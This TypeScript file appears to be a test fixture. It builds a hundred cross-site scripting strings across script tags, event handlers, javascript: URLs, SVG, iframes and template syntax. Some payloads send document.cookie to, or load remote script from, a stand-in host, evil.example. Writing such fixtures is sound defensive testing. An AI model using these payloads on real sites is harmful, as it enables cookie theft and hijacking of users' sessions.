/** The payload of a script that got the chance to run. */
const deeds = [
  "top.hit=1",
  "alert(1)",
  "fetch('https://evil.example/'+document.cookie)",
  "import('https://evil.example/x.js')",
  "location='https://evil.example'",
];

/** Contexts where a browser would run or load the payload, if the text became markup, an address or a template. */
const places: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `</script><script>${deed}</script>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `"><img src=x onerror="${deed}">`,
  (deed) => `'><svg onload="${deed}">`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<a href="javascript:${deed}" autofocus onfocus="${deed}">x</a>`,
  (deed) => `<details open ontoggle="${deed}">`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<style>@import 'https://evil.example';</style><p onclick="${deed}">`,
  (deed) => `<link rel=stylesheet href=https://evil.example onload="${deed}">`,
  (deed) => `<math><mtext><img src onerror="${deed}"></mtext></math>`,
  (deed) => `<object data="data:text/html,<script>${deed}</script>"></object>`,
  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  (deed) => `javascript:${deed}//[x](javascript:${deed})`,
  (deed) => `{{constructor.constructor("${deed}")()}}\${${deed}}`,
];

/** A hundred texts that would have an effect, if any screen rendered them as more than text. */
export const hostileTexts: readonly string[] = deeds.flatMap((deed) => places.map((place) => place(deed)));

/** The fewest texts of at most `longest` characters that hold all hundred. */
export function packed(longest: number): string[] {
  const packs: string[] = [];
  for (const text of hostileTexts) {
    const last = packs.at(-1);
    if (last !== undefined && last.length + text.length < longest)
      packs[packs.length - 1] = `${last} ${text}`;
    else packs.push(text.slice(0, longest));
  }
  return packs;
}
